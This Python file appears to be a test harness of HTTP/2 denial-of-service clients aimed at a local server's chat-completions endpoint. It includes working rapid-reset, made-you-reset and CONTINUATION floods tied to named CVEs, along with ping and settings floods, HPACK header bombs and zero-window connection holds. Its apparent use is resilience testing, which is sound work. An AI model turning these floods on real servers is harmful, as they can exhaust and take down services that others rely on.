#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Clients of HTTP/2 that mean harm, in a process of their own so that they do not slow those who measure.

    test/h2_attacks.py NAME PORT SECONDS

What they have seen goes to stdout as one JSON object. Those that hold on to something let go when stdin ends.
"""

import collections
import contextlib
import json
import socket
import struct
import sys
import time

from h2_client import (CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
                       frames_of, integer, literal, request_block, settings, text)

HOLDERS = 100  # connections of an attack that holds on to what it has
RATE = 100_000  # frames a second of a flood


class Attacker:
    """One connection, and what it was told."""

    def __init__(self, port, **values):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.began, self.goaway_s, self.code = time.monotonic(), None, None
        self.input, self.statuses = b"", collections.Counter()
        self.send(PREFACE + settings(**values))

    def send(self, data):
        self.socket.sendall(data)

    def listen(self, seconds):
        """Reads for so long, until the end, or until it is told to go; True at the end."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0 and self.code is None:
            self.socket.settimeout(left)
            try:
                piece = self.socket.recv(262144)
            except TimeoutError:
                return False
            except OSError:
                return True
            if not piece:
                return True
            self.take(piece)
        return False

    def take(self, piece):
        found, self.input = frames_of(self.input + piece)
        for kind, flags, _, payload in found:
            if kind == GOAWAY and self.code is None:
                self.code, self.goaway_s = int.from_bytes(payload[4:8], "big"), time.monotonic() - self.began
            elif kind == SETTINGS and not flags & 1:
                with contextlib.suppress(OSError):
                    self.send(frame(SETTINGS, 1))
            elif kind == RST_STREAM:
                self.statuses["reset"] += 1
            elif kind == HEADERS:
                self.statuses["answer"] += 1


class Report:
    def __init__(self):
        self.connections = self.frames = 0
        self.codes, self.statuses, self.goaway_s = collections.Counter(), collections.Counter(), []
        self.began = time.monotonic()

    def add(self, attacker, frames):
        self.connections += 1
        self.frames += frames
        self.codes[str(attacker.code)] += 1
        self.statuses += attacker.statuses
        if attacker.goaway_s is not None:
            self.goaway_s.append(attacker.goaway_s)

    def tell(self):
        seconds = time.monotonic() - self.began
        print(json.dumps({"connections": self.connections, "frames": self.frames, "per_second": round(self.frames / seconds),
                          "codes": self.codes, "statuses": self.statuses,
                          "goaway_max_ms": round(1000 * max(self.goaway_s)) if self.goaway_s else None}), flush=True)


def flood(port, seconds, burst, per_burst):
    """Sends `burst(n)`, of so many frames, until it is told to go; then comes again, as often as RATE allows."""
    report, end = Report(), time.monotonic() + seconds
    bursts = [burst(n) for n in range(8)]  # made before the time counts
    while time.monotonic() < end:
        attacker, sent = Attacker(port), 0
        for data in bursts:
            try:
                attacker.send(data)
            except OSError:
                break
            sent += per_burst
            if attacker.listen(0.0001) or attacker.code is not None:
                break
        attacker.listen(2)
        report.add(attacker, sent)
        attacker.socket.close()
        time.sleep(max(0, report.began + report.frames / RATE - time.monotonic()))
    report.tell()


def rapid_reset(port, seconds):
    """CVE-2023-44487: requests that are given up at once."""
    block, count = request_block("/v1/chat/completions", "POST"), 5000

    def burst(n):
        ids = range(1 + n * 2 * count, 1 + (n + 1) * 2 * count, 2)
        return b"".join(frame(HEADERS, END_HEADERS, i, block) + frame(RST_STREAM, 0, i, struct.pack(">I", 8)) for i in ids)
    flood(port, seconds, burst, count)


def made_you_reset(port, seconds):
    """CVE-2025-8671: faults that make the server give up requests itself."""
    block, count = request_block("/v1/chat/completions", "POST"), 2000

    def burst(n):
        ids = range(1 + n * 2 * count, 1 + (n + 1) * 2 * count, 2)
        return b"".join(frame(HEADERS, END_HEADERS, i, block) + frame(WINDOW_UPDATE, 0, i, struct.pack(">I", 0)) for i in ids)
    flood(port, seconds, burst, count)


def pings(port, seconds):
    flood(port, seconds, lambda n: frame(PING, 0, 0, b"12345678") * 10000, 10000)


def settings_flood(port, seconds):
    flood(port, seconds, lambda n: settings(initial_window_size=65535) * 10000, 10000)


def continuation_flood(port, seconds):
    """CVE-2024-27316: a head that does not end."""
    pieces = b"".join(frame(CONTINUATION, 0, 1, literal(f"x-{i}", "y" * 50)) for i in range(5000))

    def burst(n):
        return (frame(HEADERS, END_STREAM, 1, request_block()) if n == 0 else b"") + pieces
    flood(port, seconds, burst, 5000)


def empty_continuations(port, seconds):
    def burst(n):
        return (frame(HEADERS, END_STREAM, 1, request_block()) if n == 0 else b"") + frame(CONTINUATION, 0, 1, b"") * 10000
    flood(port, seconds, burst, 10000)


def hold(port, seconds, opening, **values):
    """Many connections that send `opening` and stay until stdin ends; the report comes when all have sent it."""
    report, attackers = Report(), []
    for _ in range(HOLDERS):
        attacker = Attacker(port, **values)
        with contextlib.suppress(OSError):
            attacker.send(opening)
        attackers.append(attacker)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for attacker in attackers:
            attacker.listen(0.001)
    for attacker in attackers:
        report.add(attacker, 1)
    report.tell()
    sys.stdin.read()


def bomb(port, seconds):
    """A field of 4,000 bytes that one byte repeats: a head of a few hundred bytes is a megabyte; on every stream that is allowed."""
    pseudo = request_block("/v1/chat/completions", "POST")
    first = pseudo + b"\x40" + text("x") + text("y" * 3900)  # enters the table at index 62
    again = pseudo + integer(62, 7, 0x80) * 300
    hold(port, seconds, frame(HEADERS, END_HEADERS, 1, first) +
         b"".join(frame(HEADERS, END_HEADERS, 3 + 2 * i, again) for i in range(90)))


def crumbs(port, seconds):
    """The same of cookies, which are put together, and of fields as small as may be."""
    pseudo = request_block("/v1/chat/completions", "POST")
    first = pseudo + b"\x40" + text("cookie") + text("a")
    again = pseudo + integer(62, 7, 0x80) * 16000
    hold(port, seconds, frame(HEADERS, END_HEADERS, 1, first) +
         b"".join(frame(HEADERS, END_HEADERS, 3 + 2 * i, again) for i in range(90)))


def zero_window(port, seconds):
    """Asks for as much as it may, and lets nothing of it come."""
    body = json.dumps({"model": "attacked", "stream": True, "messages": [], "mock": {"tokens": 20000, "pad": 1000}}).encode()
    block = request_block("/v1/chat/completions", "POST", [("content-length", str(len(body)))])
    hold(port, seconds, b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) + frame(0, END_STREAM, 1 + 2 * i, body)
                                 for i in range(90)), initial_window_size=0)


FLOODS = {"rapid_reset": rapid_reset, "made_you_reset": made_you_reset, "pings": pings, "settings": settings_flood,
          "continuation": continuation_flood, "empty_continuation": empty_continuations}
HOLDS = {"bomb": bomb, "crumbs": crumbs, "zero_window": zero_window}

if __name__ == "__main__":
    {**FLOODS, **HOLDS}[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3]))
